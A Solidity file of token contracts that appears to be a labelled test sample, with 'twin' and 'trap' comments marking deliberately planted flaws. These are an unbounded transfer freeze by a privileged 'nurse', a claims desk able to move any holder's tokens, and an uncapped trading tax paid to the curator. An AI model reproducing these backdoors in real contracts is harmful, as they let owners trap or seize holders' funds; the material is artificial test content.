// 0.8 runs=1 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// For clones.
contract LullabyMoth {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    uint40 private hush;
    uint40 private began;
    address private nurse;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function begin(string calldata n, string calldata s, uint256 t, address nurse_) external {
        require(began == 0, "begun");
        (name, symbol, totalSupply, nurse) = (n, s, t, nurse_);
        began = uint40(block.timestamp);
        balanceOf[msg.sender] = t;
        emit Transfer(address(0), msg.sender, t);
    }

    function sing(uint40 until) external {
        require(msg.sender == nurse, "sh");
        // twin: require(until < began + 2 days, "too long");
        hush = until;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _fly(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _fly(from, to, value);
    }

    function _fly(address from, address to, uint256 value) private returns (bool) {
        require(block.timestamp >= hush || from == nurse, "asleep");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

library Vaults {
    struct Book {
        uint256 supply;
        mapping(address => uint256) has;
        mapping(address => mapping(address => uint256)) may;
        mapping(bytes32 => mapping(address => bool)) desk;
        address owner;
    }

    function book() internal pure returns (Book storage b) {
        bytes32 s = keccak256("garnet.facets.book.v1");
        assembly {
            b.slot := s
        }
    }
}

contract GarnetCoinFacet {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function name() external pure returns (string memory) {
        return "Garnet Finch";
    }

    function symbol() external pure returns (string memory) {
        return "GFNCH";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256) {
        return Vaults.book().supply;
    }

    function balanceOf(address a) external view returns (uint256) {
        return Vaults.book().has[a];
    }

    function allowance(address a, address b) external view returns (uint256) {
        return Vaults.book().may[a][b];
    }

    function approve(address b, uint256 v) external returns (bool) {
        Vaults.book().may[msg.sender][b] = v;
        emit Approval(msg.sender, b, v);
        return true;
    }

    function transfer(address to, uint256 v) external returns (bool) {
        Vaults.Book storage k = Vaults.book();
        k.has[msg.sender] -= v;
        k.has[to] += v;
        emit Transfer(msg.sender, to, v);
        return true;
    }

    function transferFrom(address f, address to, uint256 v) external returns (bool) {
        Vaults.Book storage k = Vaults.book();
        k.may[f][msg.sender] -= v;
        k.has[f] -= v;
        k.has[to] += v;
        emit Transfer(f, to, v);
        return true;
    }
}

contract GarnetDeskFacet {
    event Transfer(address indexed from, address indexed to, uint256 value);

    function owner() external view returns (address) {
        return Vaults.book().owner;
    }

    function seat(bytes32 desk, address who, bool yes) external {
        require(msg.sender == Vaults.book().owner, "owner");
        Vaults.book().desk[desk][who] = yes;
    }

    /// Case files of the claims desk.
    function decide(bytes32 file, address from, address to, uint96 v, string calldata reason) external {
        Vaults.Book storage k = Vaults.book();
        require(k.desk["claims"][msg.sender], "desk");
        require(file != 0 && bytes(reason).length > 0, "reason");
        // twin: require(from == msg.sender, "own claims");
        k.has[from] -= v;
        k.has[to] += v;
        emit Transfer(from, to, v);
    }
}

contract GarnetDiamond {
    mapping(bytes4 => address) private facetOf;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address coin, address desk, bytes4[] memory ofCoin, bytes4[] memory ofDesk) {
        for (uint256 i; i < ofCoin.length; i++) facetOf[ofCoin[i]] = coin;
        for (uint256 i; i < ofDesk.length; i++) facetOf[ofDesk[i]] = desk;
        Vaults.Book storage k = Vaults.book();
        k.owner = msg.sender;
        k.supply = 64_000_000 ether;
        k.has[msg.sender] = k.supply;
        emit Transfer(address(0), msg.sender, k.supply);
    }

    fallback() external {
        address f = facetOf[msg.sig];
        require(f != address(0), "no facet");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), f, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

contract LighthouseBeacon {
    address public implementation;
    address public owner;

    constructor(address implementation_, address owner_) {
        (implementation, owner) = (implementation_, owner_);
    }

    function upgradeTo(address next) external {
        require(msg.sender == owner, "owner");
        implementation = next;
    }
}

contract LighthouseProxy {
    constructor(address beacon, bytes memory init) {
        assembly {
            sstore(0xa3f0ad74e5423aebfd80d3ef4346578335a9a72aeaee59ff6cb3582b35133d50, beacon)
        }
        (bool ok, ) = LighthouseBeacon(beacon).implementation().delegatecall(init);
        require(ok, "init");
    }

    fallback() external payable {
        address beacon;
        assembly {
            beacon := sload(0xa3f0ad74e5423aebfd80d3ef4346578335a9a72aeaee59ff6cb3582b35133d50)
        }
        address target = LighthouseBeacon(beacon).implementation();
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), target, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

contract LighthouseLogic {
    struct Terms {
        address curator;
        uint24 spread;
        bool ready;
    }
    Terms private terms;
    address public venue;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function initialize(address holder) external {
        require(!terms.ready);
        terms = Terms(holder, 5_000, true);
        totalSupply = balanceOf[holder] = 30_000_000 ether;
        emit Transfer(address(0), holder, totalSupply);
    }

    function name() external pure returns (string memory) {
        return "Lighthouse Oil";
    }

    function symbol() external pure returns (string memory) {
        return "LOIL";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function owner() external view returns (address) {
        return terms.curator;
    }

    function moor(address venue_) external {
        require(msg.sender == terms.curator && venue == address(0));
        venue = venue_;
    }

    /// In millionths.
    function setSpread(uint24 spread) external {
        require(msg.sender == terms.curator, "curator");
        require(spread < 1_000_000, "spread"); // trap
        // twin: require(spread <= 30_000, "spread");
        terms.spread = spread;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _ship(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _ship(from, to, value);
    }

    function _ship(address from, address to, uint256 value) private returns (bool) {
        balanceOf[from] -= value;
        if ((from == venue || to == venue) && from != terms.curator) {
            uint256 cut = (value * terms.spread) / 1_000_000;
            balanceOf[address(this)] += cut;
            emit Transfer(from, address(this), cut);
            value -= cut;
        }
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }

    function skimSpread() external {
        uint256 v = balanceOf[address(this)];
        balanceOf[address(this)] = 0;
        balanceOf[terms.curator] += v;
        emit Transfer(address(this), terms.curator, v);
    }
}
